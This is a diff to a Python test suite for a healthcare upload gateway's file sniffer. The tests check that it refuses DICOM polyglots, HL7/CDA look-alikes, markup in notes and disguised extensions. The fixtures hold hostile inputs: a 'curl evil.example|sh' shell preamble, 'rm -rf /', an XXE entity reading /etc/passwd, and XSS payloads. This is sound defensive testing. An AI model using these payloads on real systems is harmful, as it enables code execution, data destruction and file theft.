@@ -600,6 +600,80 @@ REFUSED_SAMPLES: list[tuple[str, bytes, str | None]] = [
     ("id3-bad-version", b"ID3\x09\x00\x00\x00\x00\x00\x00" + b"<html>", "song.mp3"),
     ("mpeg-layer1", b"\xff\xfe\x30\x00" + b"\x00" * 400, "x.mp3"),
     ("ts-broken", (b"\x47" + b"\x00" * 187) * 2 + b"\x48" + b"\x00" * 300, "x.ts"),
+    # DICOM polyglots (CVE-2019-11687): a program, a script or a web page in the preamble
+    ("dicom-pe-preamble", dicom(pe_header()), "image.dcm"),
+    ("dicom-pe-preamble-as-exe", dicom(pe_header()), "viewer.exe"),
+    ("dicom-elf-preamble", dicom(elf_header()), "image.dcm"),
+    ("dicom-shell-preamble", dicom(b"#!/bin/sh\ncurl evil.example|sh\nexit 0\n".ljust(128, b"\x00")),
+     "image.dcm"),
+    ("dicom-html-preamble", dicom(b"<html><script>alert(1)</script>".ljust(128, b" ")), "x.dcm"),
+    ("dicom-pdf-preamble", dicom(b"%PDF-1.4\n".ljust(128, b"\x00")), "x.dcm"),
+    ("dicom-jpeg-preamble", dicom(jpeg().ljust(128, b"\x00")), "x.dcm"),
+    ("dicom-zip-preamble", dicom(b"PK\x03\x04".ljust(128, b"\x00")), "x.dcm"),
+    ("dicom-spaces-preamble", dicom(b" " * 128), "x.dcm"),
+    ("dicom-tiff-preamble-with-html", dicom(b"II*\x00\x08\x00\x00\x00<svg onload=alert(1)>"
+                                            .ljust(128, b"\x00")), "x.dcm"),
+    ("dicom-tiff-preamble-with-pdf", dicom(b"MM\x00*\x00\x00\x00\x08%PDF-1.4".ljust(128, b"\x00")),
+     "x.dcm"),
+    # DICOM whose file meta information is not sound
+    ("dicom-magic-only", b"\x00" * 128 + b"DICM", "x.dcm"),
+    ("dicom-old-sample", b"\x00" * 128 + b"DICM" + b"\x02\x00\x00\x00UL\x04\x00" + b"\x00" * 16,
+     "x.dcm"),
+    ("dicom-meta-html", b"\x00" * 128 + b"DICM<html><script>alert(1)</script></html>", "x.dcm"),
+    ("dicom-bad-version", dicom(meta=file_meta(version=b"\x00\x02")), "x.dcm"),
+    ("dicom-bad-transfer-syntax", dicom(meta=file_meta(b"<script>")), "x.dcm"),
+    ("dicom-group-length-short", dicom(meta=file_meta(length_fix=-10)), "x.dcm"),
+    ("dicom-group-length-long", dicom(meta=file_meta(length_fix=+6)), "x.dcm"),
+    ("dicom-no-transfer-syntax", b"\x00" * 128 + b"DICM" + element(2, 0, b"UL", struct.pack("<I", 14))
+     + element(2, 1, b"OB", b"\x00\x01") + dataset(), "x.dcm"),
+    ("dicom-implicit-meta", b"\x00" * 128 + b"DICM" + struct.pack("<HHI", 2, 0, 4) + b"\x10\x00\x00\x00"
+     + dataset(explicit=False), "x.dcm"),
+    ("dicom-no-preamble-garbage", b"\x08\x00\x05\x00" + b"\xff" * 200, "x.dcm"),
+    ("dicom-no-preamble-descending", element(8, 0x20, b"DA", b"20260301")
+     + element(8, 0x16, b"UI", CT_IMAGE) + element(8, 0x60, b"CS", b"CT"), "x.dcm"),
+    ("dicom-no-preamble-bad-uid", element(8, 5, b"CS", b"ISO_IR 100")
+     + element(8, 0x16, b"UI", b"<svg/onload=x>") + element(8, 0x60, b"CS", b"CT"), "x.dcm"),
+    # PDFs behind something other than a line of text
+    ("pdf-after-script", b"#!/bin/sh\necho hi\n%PDF-1.7\n", "scan.pdf"),
+    ("pdf-after-postscript", b"%!PS-Adobe-3.0\n%PDF-1.7\n", "scan.pdf"),
+    ("pdf-after-svg", b"<svg onload=alert(1)>\n%PDF-1.7\n", "scan.pdf"),
+    ("pdf-after-binary", b"\x00\x01\x02\x03" + b"%PDF-1.7\n", "scan.pdf"),
+    ("pdf-header-too-late", b"x" * 1100 + b"\n%PDF-1.7\n", "scan.pdf"),
+    # look-alikes of the healthcare formats
+    ("hl7-with-script", HL7_ORU + b"NTE|2||<script>alert(1)</script>\r", "result.hl7"),
+    ("hl7-then-html", HL7_ORU + b"<html><body>x</body></html>\r\n", "result.hl7"),
+    ("msh-then-garbage", b"MSH|^~\\&|A\rnot a segment at all\rPID|1\r", "x.hl7"),
+    ("cda-doctype", cda(prolog='<!DOCTYPE ClinicalDocument [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'),
+     "x.xml"),
+    ("cda-xhtml", cda(root_attrs=' xmlns:h="http://www.w3.org/1999/xhtml"',
+                      body="<h:script>alert(1)</h:script>"), "x.xml"),
+    ("cda-svg", cda(body='<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), "x.xml"),
+    ("cda-javascript-link", cda(body='<linkHtml href="javascript:alert(1)">x</linkHtml>'), "x.xml"),
+    ("cda-remote-stylesheet", cda(prolog='<?xml-stylesheet type="text/xsl" '
+                                          'href="https://evil.example/cda.xsl"?>\n'), "x.xml"),
+    ("cda-wrong-namespace", cda().replace(b'xmlns="urn:hl7-org:v3"', b'xmlns="urn:evil"'), "x.xml"),
+    ("xml-not-cda", b'<?xml version="1.0"?>\n<note><to>Ward 7</to></note>\n', "note.xml"),
+    ("json-not-fhir", b'{"name": "Jane", "dose": "<5 mg"}\n', "data.json"),
+    ("json-fhir-broken", b'{"resourceType": "Patient", "id": ', "p.json"),
+    ("json-array", b'[{"resourceType": "Patient"}]', "p.json"),
+    ("eml-html-only", HTML, "referral.eml"),
+    ("eml-no-headers", b"Dear colleague,\r\nplease see Jane Doe.\r\n", "referral.eml"),
+    ("eml-one-header", b"Subject: hi\r\n\r\nbody\r\n", "referral.eml"),
+    ("eml-content-without-eml-name", eml(), "referral.txt.html"),
+    ("asf-broken", ASF_HEADER_GUID + b"\x00" * 14, "x.wma"),
+    ("jp2-signature-only", b"\x00\x00\x00\x0cjP  \r\n\x87\n", "x.jp2"),
+    ("jp2-unknown-brand", jp2(b"evil"), "x.jp2"),
+    ("j2c-bad-siz", b"\xff\x4f\xff\x51\x00\x05" + b"\x00" * 40, "x.j2k"),
+    # real markup in notes and tables is still refused
+    ("txt-closing-tag", b"see below</p>\n", "note.txt"),
+    ("txt-self-closing", b"line<br/>line\n", "note.txt"),
+    ("txt-event-handler", b"Symptoms <b onmouseover=alert(1)>x\n", "note.txt"),
+    ("txt-svg-slash", b"a <svg/onload=alert(1)>\n", "note.txt"),
+    ("txt-img-slash", b"a <img/src=x/onerror=alert(1)>\n", "note.txt"),
+    ("txt-quoted-attribute", b'text <div class="x">\n', "note.txt"),
+    ("txt-script-newline", b"notes <script\nsrc=//evil.example/x.js></script>\n", "note.txt"),
+    ("csv-iframe", b"a,b\n1,<iframe src=//evil.example>\n", "x.csv"),
+    ("csv-body-tag", b"a,b\n1,<body>\n", "x.csv"),
 ]
 
 
@@ -711,3 +785,151 @@ def test_markup_in_text_is_always_refused(
     before: str, markup: str, filename: str | None, encoding: str
 ) -> None:
     assert sniff((before + markup).encode(encoding), filename) is None
+
+
+# -- check_upload: reasons and names --------------------------------------------------------
+
+from gateway.files.sniff import Verdict, check_upload, name_extension  # noqa: E402
+
+PDF_HTML_POLYGLOT = b"%PDF-1.7\n<html><script>alert(document.domain)</script></html>\n"
+
+
+@pytest.mark.parametrize(
+    ("head", "filename", "reason"),
+    [
+        (b"", "scan.pdf", "empty"),
+        (dicom(pe_header()), "image.dcm", "dicom_preamble"),
+        (dicom(elf_header()), "image.dcm", "dicom_preamble"),
+        (dicom(meta=file_meta(version=b"\x00\x02")), "image.dcm", "dicom_header"),
+        (HTML, "notes.txt", "markup"),
+        (b"#!/bin/sh\nrm -rf /\n", "notes.txt", "script"),
+        (MZ, "photo.jpg", "program"),
+        (ELF, "scan.pdf", "program"),
+        (docx(DOCM_MAIN), "letter.docx", "office_macros"),
+        (ole2("WordDocument", "_VBA_PROJECT"), "letter.doc", "office_macros"),
+        (cda(prolog="<!DOCTYPE x>\n"), "x.xml", "xml_active_content"),
+        (HTML, "page.html", "unknown_type"),
+        (office_zip([("a.txt", b"x")]), "a.zip", "unknown_type"),
+    ],
+)
+def test_refusals_carry_a_reason_and_a_plain_message(head: bytes, filename: str, reason: str) -> None:
+    verdict = check_upload(head, filename)
+    assert not verdict.accepted and verdict.content_type is None
+    assert verdict.reason == reason
+    assert 20 < len(verdict.message) <= 300 and verdict.message.endswith(".")
+
+
+@pytest.mark.parametrize("ext", ["hta", "html", "htm", "exe", "js", "svg", "zip", "scr", "lnk",
+                                 "bat", "ps1", "vbs", "jar", "appref-ms", "settingcontent-ms",
+                                 "bin", "docx", "txt"])
+def test_pdf_polyglot_under_a_contradicting_name_is_refused(ext: str) -> None:
+    assert sniff(PDF_HTML_POLYGLOT, f"letter.{ext}") == s.PDF  # the bytes alone say PDF
+    verdict = check_upload(PDF_HTML_POLYGLOT, f"letter.{ext}")
+    assert verdict.reason == "extension_mismatch"
+    assert f'ends in ".{ext}"' in verdict.message and "end in .pdf" in verdict.message
+
+
+@pytest.mark.parametrize(
+    "filename",
+    [
+        "letter.exe.", "letter.exe ", "letter.exe . .", "letter\uff0eexe", "letter.\uff45\uff58\uff45",
+        "LETTER.HTA", "dir/letter.js", "C:\\Users\\x\\letter.svg", "letter.pdf.html",
+        "letter.exe::$DATA", ".hta",
+    ],
+)
+def test_disguised_extensions_are_read_like_windows_reads_them(filename: str) -> None:
+    assert check_upload(b"%PDF-1.7\n", filename).reason == "extension_mismatch"
+
+
+@pytest.mark.parametrize(
+    ("head", "filename", "expected"),
+    [
+        (b"%PDF-1.7\n", "scan.pdf", s.PDF),
+        (b"%PDF-1.7\n", "SCAN.PDF", s.PDF),
+        (b"%PDF-1.7\n", "scan", s.PDF),  # no extension: nothing opens it by itself
+        (b"%PDF-1.7\n", "Befund 12.03.2024", s.PDF),  # a date, not an extension
+        (b"%PDF-1.7\n", "Brief an Dr. Müller", s.PDF),  # words, not an extension
+        (b"%PDF-1.7\n", "scan.pdf.", s.PDF),
+        (jpeg(), "photo.png", s.JPEG),  # same picture viewer
+        (jpeg(), "IMG_0001.JPEG", s.JPEG),
+        (ftyp(b"qt  ", b"qt  "), "IMG_0002.mp4", s.QUICKTIME),
+        (docx(), "letter.doc", s.DOCX),
+        (b"{\\rtf1\\ansi Hello}", "letter.doc", s.RTF),
+        (dicom(), "1.2.840.113619.2.55.3.604688119.868", s.DICOM),
+        (dicom(), "IM_0001", s.DICOM),
+        (dicom(), "CT000001.IMA", s.DICOM),
+        (HL7_ORU, "ORU_20260301.hl7", s.HL7_V2),
+        (cda(), "discharge.xml", s.CDA_XML),
+        (fhir_patient(), "patient.fhir.json", s.FHIR_JSON),
+        (eml(), "Referral Jane Doe.eml", s.EML),
+        (asf(ASF_AUDIO), "dictation.WMA", s.WMA),
+        (jp2(), "scan.jp2", s.JP2),
+    ],
+)
+def test_names_that_agree_are_accepted(head: bytes, filename: str, expected: str) -> None:
+    assert check_upload(head, filename) == Verdict(expected)
+
+
+@pytest.mark.parametrize(
+    ("head", "filename"),
+    [
+        (dicom(), "viewer.exe"),
+        (dicom(), "image.html"),
+        (jpeg(), "photo.svg"),
+        (docx(), "letter.zip"),
+        (HL7_ORU, "result.js"),
+        (fhir_patient(), "patient.html"),
+        (cda(), "discharge.svg"),
+        (cda(), "discharge.hta"),
+        (mp3_frames(), "song.exe"),
+        (asf(ASF_VIDEO), "clip.html"),
+    ],
+)
+def test_other_types_under_contradicting_names_are_refused(head: bytes, filename: str) -> None:
+    assert sniff(head, filename) is not None
+    assert check_upload(head, filename).reason == "extension_mismatch"
+
+
+def test_every_type_names_its_usual_extension_among_its_own() -> None:
+    from gateway.files.sniff.kinds import EXTENSIONS, USUAL_EXTENSION
+
+    assert set(EXTENSIONS) == ALLOWED_TYPES == set(USUAL_EXTENSION)
+    assert all(USUAL_EXTENSION[t] in EXTENSIONS[t] for t in ALLOWED_TYPES)
+    programs = {"exe", "hta", "html", "htm", "js", "svg", "zip", "bat", "cmd", "scr", "msi"}
+    assert not any(programs & EXTENSIONS[t] for t in ALLOWED_TYPES)
+
+
+@pytest.mark.parametrize(
+    ("filename", "ext"),
+    [("a.PDF", "pdf"), ("a.pdf. ", "pdf"), ("a\uff0eexe", "exe"), ("a", ""), ("12.03.2024", ""),
+     ("Dr. Müller", ""), ("a.b c", ""), (".hta", "hta"), ("", ""), (None, ""), ("x.tar.gz", "gz")],
+)
+def test_name_extension(filename: str | None, ext: str) -> None:
+    assert name_extension(filename) == ext
+
+
+@given(st.text(max_size=40))
+def test_check_upload_of_any_name_never_crashes(filename: str) -> None:
+    verdict = check_upload(b"%PDF-1.7\n", filename)
+    assert verdict.content_type in (None, s.PDF)
+    assert verdict.accepted or verdict.reason == "extension_mismatch"
+
+
+_CLINICAL = st.sampled_from(
+    ["Creatinine back <baseline", "Symptoms for <a week", "weight <body ideal", "BP <140/90",
+     "HR >100", "<2 weeks", "eGFR <60 since <a month", "Na <135, K >5.5", "pain <b/l knees",
+     "<i.v. fluids", "dose <5 mg", "sats <92% on air", "<p 0.05", "see <html help> page",
+     "<script-writer> note", "x < y > z", "Dear <name>,", "<patient name> <date of birth>"]
+)
+
+
+@given(st.lists(_CLINICAL, min_size=1, max_size=12), st.sampled_from(["\n", "; ", ", ", "\r\n"]),
+       st.sampled_from(["note.txt", "table.csv", "table.tsv"]))
+def test_clinical_notes_with_less_than_signs_are_text(lines: list[str], sep: str, name: str) -> None:
+    assert sniff(sep.join(lines).encode(), name) == s.TEXT_EXTENSIONS[name.rsplit(".", 1)[1]]
+
+
+@pytest.mark.parametrize("mime", sorted(s.MARKUP_TYPES | {s.TEXT, s.CSV, s.TSV, s.WMA, s.WMV,
+                                                          s.JP2, s.JPX, s.J2C, s.DICOM}))
+def test_markup_like_and_undecodable_types_are_never_inline(mime: str) -> None:
+    assert mime in ALLOWED_TYPES and not is_inline(mime)
